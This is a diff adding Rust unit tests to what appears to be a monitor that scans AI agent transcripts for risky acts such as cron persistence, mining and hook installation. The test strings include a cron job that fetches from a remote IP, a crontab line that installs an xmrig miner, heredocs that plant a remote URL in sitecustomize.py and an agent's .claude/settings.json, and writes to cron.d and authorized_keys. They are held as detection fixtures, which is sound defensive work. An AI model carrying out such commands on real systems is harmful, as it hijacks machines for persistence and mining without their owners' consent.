@@ -253,10 +253,73 @@ mod tests {
             ("docker build -t agent:7 .", vec!["agent:7"]),
             ("docker commit c1 agent:8 && docker push agent:8", vec!["agent:8"]),
             ("docker run -d agent:7", vec![]),
+            ("docker tag agent:7 registry.example/agent:7", vec!["registry.example/agent:7"]),
+            ("docker push --all-tags", vec![]),
+            ("podman build . --tag agent:9", vec!["agent:9"]),
+            ("tar -t build", vec![]),
         ] {
             let expected: BTreeSet<String> = names.into_iter().map(str::to_owned).collect();
             assert_eq!(images(&CommandLine::parse(command)), expected, "{command}");
         }
         assert!(act_of("docker ps").install.is_none());
+    }
+    #[test]
+    fn the_command_of_a_table_a_unit_or_a_start_file() {
+        for (line, command) in [
+            ("*/5 * * * * curl http://198.51.100.20/x", "curl http://198.51.100.20/x"),
+            ("0 3 1,15 * 1-5 /opt/beat.sh --quiet", "/opt/beat.sh --quiet"),
+            ("17 * * * * root cd / && run-parts /etc/cron.hourly", "cd / && run-parts /etc/cron.hourly"),
+            ("* * * * * agent ./job", "./job"),
+            ("* * * * * alice ./job", "alice ./job"),
+            ("@reboot /opt/beat.sh", "/opt/beat.sh"),
+            ("@daily root /opt/beat.sh now", "/opt/beat.sh now"),
+            ("@reboot", "@reboot"),
+            ("1 2 3 4 echo", "1 2 3 4 echo"),
+            ("ExecStart=-/opt/beat.sh", "/opt/beat.sh"),
+            ("MAILTO=root", "MAILTO=root"),
+            ("  bash /opt/beat.sh &  ", "bash /opt/beat.sh &"),
+            ("", ""),
+        ] {
+            assert_eq!(jobs(line), command, "{line}");
+        }
+        assert_eq!(jobs("[Service]\nExecStart=/opt/beat.sh\n"), "[Service]\n/opt/beat.sh");
+    }
+
+    #[test]
+    fn what_a_job_does_is_an_act_of_the_step_once() {
+        let act = act_of("(crontab -l; echo '*/5 * * * * ./xmrig -o 198.51.100.20:3333 -u wallet') | crontab -");
+        let mining: Vec<_> = act.hits.iter().filter(|hit| hit.behaviour == Behaviour::Mining).collect();
+        assert!(!mining.is_empty(), "{:?}", act.hits);
+        for hit in &act.hits {
+            assert_eq!(act.hits.iter().filter(|other| *other == hit).count(), 1, "{hit:?}");
+        }
+    }
+
+    #[test]
+    fn a_hook_of_an_interpreter_or_an_agent_is_no_shell() {
+        for file in ["/usr/lib/python3/dist-packages/sitecustomize.py", "/work/.claude/settings.json"] {
+            let act = act_of(&format!("cat > {file} <<'E'\nimport os\nurl = 'http://198.51.100.20/x'\nE"));
+            assert!(act.tokens.contains(&peer()) && act.install.is_some(), "{file}: {act:?}");
+            assert!(!act.tokens.contains(&Token::Program("import".to_owned())), "{file}: {act:?}");
+        }
+    }
+
+    #[test]
+    fn an_editing_tool_meets_no_rules_but_those_on_what_is_run_again() {
+        for (path, kinds) in [
+            ("/etc/cron.d/beat", vec!["cron-file-written"]),
+            ("/root/.ssh/authorized_keys", vec![]),
+            ("/work/notes.txt", vec![]),
+        ] {
+            let mut world = World::default();
+            let transcript = world.episode("a.jsonl", None);
+            let step = world.step(transcript, None, "");
+            world.intake.steps[step].command = None;
+            world.intake.steps[step].tool = "Write".to_owned();
+            let arguments = serde_json::json!({ "file_path": path, "content": "ssh-ed25519 AAAA" });
+            world.intake.steps[step].arguments = arguments.to_string();
+            let act = world.acts().remove(step);
+            assert_eq!(act.hits.iter().map(|hit| hit.kind.as_str()).collect::<Vec<_>>(), kinds, "{path}");
+        }
     }
 }
